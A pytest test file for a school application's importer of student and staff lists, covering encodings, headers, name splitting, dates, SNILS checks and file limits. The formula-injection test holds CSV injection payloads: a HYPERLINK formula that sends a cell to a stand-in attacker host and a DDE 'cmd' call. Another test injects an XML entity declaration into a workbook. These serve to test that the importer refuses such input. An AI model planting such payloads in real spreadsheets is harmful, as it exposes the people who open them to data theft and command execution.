"""Reading the secretary's class and staff lists: real XLSX and CSV files built in memory, read
back to exact values, and every refusal naming its row and column."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook

from core import i18n
from core.people import importing
from core.people.importing import CellProblem, read_table, snils_checksum_ok, split_full_name

TODAY = date(2026, 9, 1)
FORMULA = "Formulas are not accepted: enter the value itself."


@pytest.fixture(autouse=True)
def english_messages():
    """Messages as msgids whatever locale an earlier test left active (restored afterwards)."""
    before = (i18n._catalogs.get(), i18n.current_locale())
    i18n.activate({}, "en")
    yield
    i18n._catalogs.set(before[0])
    i18n._current_locale.set(before[1])


def read(data: bytes, filename: str, **options):
    return read_table(data, filename, today=TODAY, **options)


def csv_bytes(lines: list[str], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    return newline.join(lines).encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def only(result, field: str) -> list:
    return [row.values[field] for row in result.rows]


def file_problems(result) -> list[str]:
    return [problem.message for problem in result.problems if problem.row == 0]


# ---- CSV -----------------------------------------------------------------------------------------


def test_utf8_csv_with_bom_and_commas():
    data = "\ufeff" + "\r\n".join([
        "Фамилия,Имя,Отчество,Дата рождения,Класс",
        "Иванов,Иван,Иванович,05.03.2015,5А",
        '"Петрова-Водкина","Анна",,1.9.2014,"5 А"',
    ])
    result = read(data.encode("utf-8"), "class.csv")
    assert result.ok, result.problems
    assert [(row.row, row.values["last_name"], row.values["first_name"], row.values["middle_name"],
             row.values["birth_date"], row.values["class_name"]) for row in result.rows] == [
        (2, "Иванов", "Иван", "Иванович", date(2015, 3, 5), "5А"),
        (3, "Петрова-Водкина", "Анна", None, date(2014, 9, 1), "5 А"),
    ]
    assert result.columns == {"last_name": "Фамилия", "first_name": "Имя", "middle_name": "Отчество",
                              "birth_date": "Дата рождения", "class_name": "Класс"}


def test_windows_1251_csv_with_semicolons_and_quoted_separators():
    data = csv_bytes([
        "ФИО;Дата зачисления;Приказ №;Дата приказа;Телефон родителя",
        'Сидоров Пётр Сергеевич;2026-09-01;"12-у; доп.";28.08.2026;+7 (900) 123-45-67',
    ], "cp1251")
    result = read(data, "Список 5А.csv")
    assert result.ok, result.problems
    assert result.rows[0].values == {
        "last_name": "Сидоров", "first_name": "Пётр", "middle_name": "Сергеевич", "birth_date": None,
        "class_name": None, "admitted_on": date(2026, 9, 1), "order_number": "12-у; доп.",
        "order_date": date(2026, 8, 28), "email": None, "phone": None, "snils": None, "position": None,
        "guardian_full_name": None, "guardian_kind": None, "guardian_phone": "+7 (900) 123-45-67",
    }


def test_tab_separated_csv():
    result = read(csv_bytes(["Фамилия\tИмя\tДолжность", "Смирнова\tОльга\tучитель математики"]), "staff.csv",
                  required=("last_name", "first_name", "position"))
    assert result.ok and only(result, "position") == ["учитель математики"]


def test_bytes_that_are_neither_utf8_nor_windows_1251_are_refused():
    # 0x98 is undefined in Windows-1251 and invalid as a lone UTF-8 byte.
    result = read(b"\xd4\xe0\xec\xe8\xeb\xe8\xff;\x98\x98\r\n\x98;\x98", "list.csv")
    assert file_problems(result) == [
        "The file's text is neither UTF-8 nor Windows-1251: save the list as CSV in one of these encodings."]
    assert read(b"\x00\x01\x02binary", "list.csv").problems[0].message.startswith("The file's text is neither")


def test_formula_like_csv_cells_are_refused_but_phones_are_not():
    data = csv_bytes([
        "Фамилия;Имя;Телефон;Класс",
        'Иванов;Иван;+7 (900) 123-45-67;=HYPERLINK("http://evil.example/?"&A2;"5А")',
        "Петров;@SUM(1);+7 900 1234567;5А",
        "Сидоров;Олег;+cmd|' /C calc'!A0;-2+3",
    ])
    result = read(data, "list.csv")
    assert result.problems == [
        CellProblem(2, "Класс", FORMULA),
        CellProblem(3, "Имя", FORMULA),
        CellProblem(4, "Телефон", FORMULA),
        CellProblem(4, "Класс", FORMULA),
    ]
    assert only(result, "phone") == ["+7 (900) 123-45-67", "+7 900 1234567", None]


def test_blank_rows_and_rows_with_only_ignored_columns_are_skipped():
    data = csv_bytes(["№ п/п;Фамилия;Имя;Примечание", "1;Иванов;Иван;", ";;;", "", "2;;;", "3; Орлова ;  Мария ;"])
    result = read(data, "list.csv")
    assert result.ok
    assert [(row.row, row.values["last_name"], row.values["first_name"]) for row in result.rows] == [
        (2, "Иванов", "Иван"), (6, "Орлова", "Мария")]
    assert result.ignored_columns == ["№ п/п", "Примечание"]


def test_a_lone_dash_means_no_value():
    result = read(csv_bytes(["Фамилия;Имя;Отчество", "Смит;Джон;-", "Ли;Анна;—"]), "list.csv")
    assert result.ok and only(result, "middle_name") == [None, None]


# ---- XLSX ----------------------------------------------------------------------------------------


def test_xlsx_with_a_real_date_cell_and_a_number_typed_phone():
    data = xlsx_bytes([
        ["Фамилия", "Имя", "Дата рождения", "Телефон", "Номер приказа"],
        ["Кузнецова", "Дарья", datetime(2014, 12, 31), 79001234567, 15],
        ["Кузнецов", "Илья", "07.01.2013", "8 (495) 123-45-67", "15/2"],
    ])
    result = read(data, "class.xlsx")
    assert result.ok, result.problems
    assert only(result, "birth_date") == [date(2014, 12, 31), date(2013, 1, 7)]
    assert only(result, "phone") == ["79001234567", "8 (495) 123-45-67"]
    assert only(result, "order_number") == ["15", "15/2"]


def test_xlsx_formula_cells_are_refused_at_their_row_and_column():
    data = xlsx_bytes([["Фамилия", "Имя", "Класс"], ["Иванов", "Иван", "=1+1"], ["Петров", '=HYPERLINK("x")', "5Б"]])
    result = read(data, "class.xlsx")
    assert result.problems == [CellProblem(2, "Класс", FORMULA), CellProblem(3, "Имя", FORMULA)]
    assert result.rows[0].values["class_name"] is None


def test_a_class_list_of_thirty_with_two_bad_rows():
    rows: list[list] = [["№", "Фамилия", "Имя", "Отчество", "Дата рождения", "Класс"]]
    for number in range(1, 31):
        rows.append([number, f"Ученикова{'а' * (number % 3)}", "Мария", "Ивановна", date(2015, 1 + number % 12, number % 28 + 1), "5А"])
    rows[11][4] = "31.02.2015"  # spreadsheet row 12
    rows[24][1] = "Иванов2"  # spreadsheet row 25
    result = read(xlsx_bytes(rows), "5А.xlsx")
    assert len(result.rows) == 30 and [row.row for row in result.rows] == list(range(2, 32))
    assert result.problems == [
        CellProblem(12, "Дата рождения", "There is no such date."),
        CellProblem(25, "Фамилия", "A name may contain only letters, spaces, hyphens and apostrophes."),
    ]
    assert result.rows[10].values["birth_date"] is None and result.rows[9].values["birth_date"] == date(2015, 11, 11)
    assert set(result.problems_by_row()) == {12, 25}


def test_a_title_line_above_the_header_keeps_spreadsheet_row_numbers():
    data = xlsx_bytes([["Список 5А класса"], [], ["Ф.И.О.", "Д/р"], ["ПЕТРОВ ПЁТР", None], [None, None], ["Сидорова", None]])
    result = read(data, "class.xlsx")
    assert [(row.row, row.values["last_name"], row.values["first_name"]) for row in result.rows] == [
        (4, "Петров", "Пётр"), (6, None, None)]
    assert result.problems == [CellProblem(6, "Ф.И.О.", "Enter at least the last name and the first name.")]
    assert result.ignored_columns == ["Д/р"]


def test_xlsx_xml_with_entities_is_refused():
    data = xlsx_bytes([["Фамилия", "Имя"], ["Иванов", "Иван"]])
    source, target = io.BytesIO(data), io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as rebuilt:
        for entry in original.infolist():
            content = original.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                content = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>' + content
            rebuilt.writestr(entry, content)
    result = read(target.getvalue(), "class.xlsx")
    assert file_problems(result) == ["The file could not be read as an XLSX workbook: open it in Excel and save it again."]


def test_an_xlsx_that_unpacks_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(importing, "MAX_UNPACKED_XLSX_BYTES", 1000)
    result = read(xlsx_bytes([["Фамилия", "Имя"]]), "class.xlsx")
    assert file_problems(result) == ["The workbook is too large: keep only the list on its first sheet."]


# ---- file types and sizes ------------------------------------------------------------------------


XLS_REFUSAL = "Old Excel files (.xls) are not accepted: save the list as .xlsx (Excel 2007 or newer) or .csv."


@pytest.mark.parametrize(("data", "filename"), [
    (importing.OLE2_MAGIC + b"\x00" * 600, "class.xls"),
    (importing.OLE2_MAGIC + b"\x00" * 600, "class.csv"),
    ("Фамилия;Имя\r\n".encode(), "CLASS.XLS"),
])
def test_old_xls_files_are_refused_by_content_or_name(data, filename):
    assert file_problems(read(data, filename)) == [XLS_REFUSAL]


def test_an_encrypted_xlsx_is_refused_with_its_own_message():
    [message] = file_problems(read(importing.OLE2_MAGIC + b"\x00" * 600, "class.xlsx"))
    assert message.startswith("The workbook is password-protected")


@pytest.mark.parametrize(("data", "filename", "message"), [
    (b"", "a.csv", "The file is empty."),
    (b" \r\n\r\n", "a.csv", "The file is empty."),
    (b"%PDF-1.4", "a.pdf", "Only .xlsx and .csv files are accepted: save the list in one of these formats."),
    (b"x", "noextension", "Only .xlsx and .csv files are accepted: save the list in one of these formats."),
    (xlsx_bytes([["Фамилия", "Имя"]]), "a.csv", "Only .xlsx and .csv files are accepted: save the list in one of these formats."),
    ("Фамилия;Имя".encode(), "a.xlsx", "The file could not be read as an XLSX workbook: open it in Excel and save it again."),
    ("Список;класса\r\nодин;два".encode(), "a.csv",
     "No header row found: the first row must name the columns, e.g. Last name, First name, Middle name, Date of birth."),
    ("Фамилия;Имя\r\n;;\r\n".encode(), "a.csv", "The file has a header but no rows below it."),
])
def test_file_level_refusals(data, filename, message):
    result = read(data, filename)
    assert result.problems == [CellProblem(0, "", message)] and result.rows == [] and not result.ok


def test_a_file_over_five_megabytes_is_refused():
    data = b"x" * (5 * 1024 * 1024 + 1)
    assert file_problems(read(data, "a.csv")) == ["The file is larger than 5 MB: split the list into several files."]


def test_more_than_five_thousand_rows_are_refused():
    lines = ["Фамилия;Имя"] + ["Иванов;Иван"] * 5000
    assert read(csv_bytes(lines), "a.csv").ok
    result = read(csv_bytes(lines + ["Петров;Пётр"]), "a.csv")
    assert file_problems(result) == ["The file has more than 5000 rows: split the list into several files."]
    assert result.rows == []


# ---- headers -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("header", "field"), [
    ("ФАМИЛИЯ", "last_name"), ("  фамилия  ", "last_name"), ("Last name", "last_name"), ("last_name", "last_name"),
    ("Ф. И. О.", "full_name"), ("фамилия,  имя, отчество", "full_name"), ("Дата  рождения", "birth_date"),
    ("Дата рожд.", "birth_date"), ("Приказ №", "order_number"), ("№ приказа", "order_number"),
    ("Эл. почта", "email"), ("E-mail", "email"), ("Электронная почта", "email"), ("Телефон", "phone"),
    ("Родитель (законный представитель)", "guardian_full_name"), ("Законный представитель", "guardian_full_name"),
    ("Кем приходится", "guardian_kind"), ("Телефон родителя", "guardian_phone"), ("СНИЛС", "snils"),
    ("Дата зачисления", "admitted_on"), ("Дата приказа", "order_date"), ("Должность", "position"),
    ("Отчество", "middle_name"), ("Отчёство", "middle_name"),
])
def test_header_spellings(header, field):
    assert importing.HEADER_INDEX[importing.header_key(header)] == field


def test_every_label_in_russian_is_itself_an_accepted_header():
    i18n.activate(i18n.load_translations([]), "ru")
    for one in importing.FIELDS:
        assert importing.HEADER_INDEX[importing.header_key(i18n.gettext(one.label))] == one.name


def test_missing_required_columns_are_named():
    result = read(csv_bytes(["Отчество;Класс", "Иванович;5А"]), "a.csv", required=("last_name", "first_name", "class_name", "position"))
    assert file_problems(result) == [
        "The file has no name columns: add Last name and First name, or one Full name column.",
        "The file has no column Position.",
    ]
    assert result.rows == []


def test_missing_columns_are_named_in_russian():
    i18n.activate(i18n.load_translations([]), "ru")
    result = read(csv_bytes(["Фамилия;Имя", "Иванова;Анна"]), "a.csv", required=("last_name", "position", "birth_date"))
    assert file_problems(result) == ["В файле нет столбца «Должность».", "В файле нет столбца «Дата рождения»."]


def test_a_column_given_twice_is_refused():
    result = read(csv_bytes(["Фамилия;Имя;фамилия", "А;Б;В"]), "a.csv")
    assert file_problems(result) == ["The column фамилия appears twice."]


def test_an_unknown_required_field_is_a_programming_error():
    with pytest.raises(ValueError):
        read_table(b"x", "a.csv", required=("shoe_size",))


def test_required_cells_left_empty():
    result = read(csv_bytes(["Фамилия;Имя;Должность", "Иванова;;учитель", ";Анна;"]), "a.csv",
                  required=("last_name", "first_name", "position"))
    assert result.problems == [
        CellProblem(2, "Имя", "This field is required."),
        CellProblem(3, "Фамилия", "This field is required."),
        CellProblem(3, "Должность", "This field is required."),
    ]


# ---- names ---------------------------------------------------------------------------------------


def test_full_names_are_split_and_cased_part_by_part():
    data = csv_bytes(["ФИО", "ИВАНОВ Иван Иванович", "петрова - водкина анна", "Мамедов Рашид Ильхам оглы",
                      "  Ким   Виктор  ", "МакДональд Джон"])
    result = read(data, "a.csv")
    assert result.ok, result.problems
    assert [(row.values["last_name"], row.values["first_name"], row.values["middle_name"]) for row in result.rows] == [
        ("Иванов", "Иван", "Иванович"), ("Петрова-Водкина", "Анна", None), ("Мамедов", "Рашид", "Ильхам оглы"),
        ("Ким", "Виктор", None), ("МакДональд", "Джон", None)]


def test_separate_name_columns_win_over_a_full_name():
    result = read(csv_bytes(["ФИО;Имя", "Иванов Ваня Иванович;Иван"]), "a.csv")
    assert (result.rows[0].values["last_name"], result.rows[0].values["first_name"]) == ("Иванов", "Иван")


def test_guardian_full_name_is_kept_whole():
    result = read(csv_bytes(["Фамилия;Имя;Родитель;Кем приходится", "Иванов;Иван;ИВАНОВА МАРИЯ ПЕТРОВНА;мать"]), "a.csv")
    assert only(result, "guardian_full_name") == ["Иванова Мария Петровна"]
    assert only(result, "guardian_kind") == ["мать"]


def test_split_full_name():
    assert split_full_name("Иванов Иван") == ("Иванов", "Иван", None)
    assert split_full_name("Иванов") is None


# ---- values --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "expected"), [
    ("05.03.2015", date(2015, 3, 5)), ("5.3.2015", date(2015, 3, 5)), ("2015-03-05", date(2015, 3, 5)),
    ("05.03.2015 г.", date(2015, 3, 5)), ("29.02.2016", date(2016, 2, 29)),
    ("05.03.15", "Enter the date as DD.MM.YYYY, e.g. 01.09.2026."),
    ("5 марта 2015", "Enter the date as DD.MM.YYYY, e.g. 01.09.2026."),
    ("29.02.2015", "There is no such date."), ("32.01.2015", "There is no such date."),
    ("02.09.2026", "The date of birth is in the future."),
    ("31.08.1926", "The date of birth is more than 100 years ago."), ("01.09.1926", date(1926, 9, 1)),
])
def test_birth_dates(cell, expected):
    result = read(csv_bytes(["Фамилия;Имя;Дата рождения", f"Иванов;Иван;{cell}"]), "a.csv")
    if isinstance(expected, date):
        assert result.ok and only(result, "birth_date") == [expected]
    else:
        assert result.problems == [CellProblem(2, "Дата рождения", expected)]


def test_a_future_date_is_fine_where_it_is_not_a_birth_date():
    result = read(csv_bytes(["Фамилия;Имя;Дата зачисления", "Иванов;Иван;01.09.2027"]), "a.csv")
    assert result.ok and only(result, "admitted_on") == [date(2027, 9, 1)]


@pytest.mark.parametrize(("header", "cell", "expected"), [
    ("СНИЛС", "112-233-445 95", "112-233-445 95"), ("СНИЛС", "11223344595", "112-233-445 95"),
    ("СНИЛС", "112-233-445 96", "The SNILS number has a typo: its check digits do not match."),
    ("СНИЛС", "112-233-445", "A SNILS number has 11 digits, e.g. 112-233-445 95."),
    ("Email", "ivanova@school.example", "ivanova@school.example"),
    ("Email", "ivanova at school", "This does not look like an email address."),
    ("Телефон", "8 900 123", "This does not look like a phone number."),
    ("Телефон", "звонить маме", "This does not look like a phone number."),
    ("Класс", "x" * 201, "The value is longer than 200 characters."),
    ("Класс", "x" * 200, "x" * 200),
    ("Класс", '"5\nА"', "Line breaks and tabs are not accepted inside a cell."),
])
def test_checked_values(header, cell, expected):
    result = read(csv_bytes([f"Фамилия;Имя;{header}", f"Иванов;Иван;{cell}"]), "a.csv")
    field = importing.HEADER_INDEX[importing.header_key(header)]
    if result.ok:
        assert only(result, field) == [expected]
    else:
        assert result.problems == [CellProblem(2, header, expected)]


def test_snils_check_digits():
    assert snils_checksum_ok("11223344595")
    assert snils_checksum_ok("00100199800")  # issued before the rule: not checked
    assert not snils_checksum_ok("11223344594")


def test_names_are_limited_to_the_length_a_profile_keeps():
    result = read(csv_bytes(["Фамилия;Имя;Должность", f"{'Я' * 101};Иван;{'д' * 200}"]), "a.csv")
    assert result.problems == [CellProblem(2, "Фамилия", "The value is longer than 100 characters.")]


def test_problems_in_russian():
    i18n.activate(i18n.load_translations([]), "ru")
    result = read(csv_bytes(["Фамилия;Имя;Дата рождения", "Иванов;=1+1;5.3.15"]), "a.csv")
    assert [problem.message for problem in result.problems] == [
        "Формулы не принимаются: введите само значение.", "Введите дату в виде дд.мм.гггг, например 01.09.2026."]
    assert file_problems(read(b"", "a.xls")) == ["Файл пустой."]
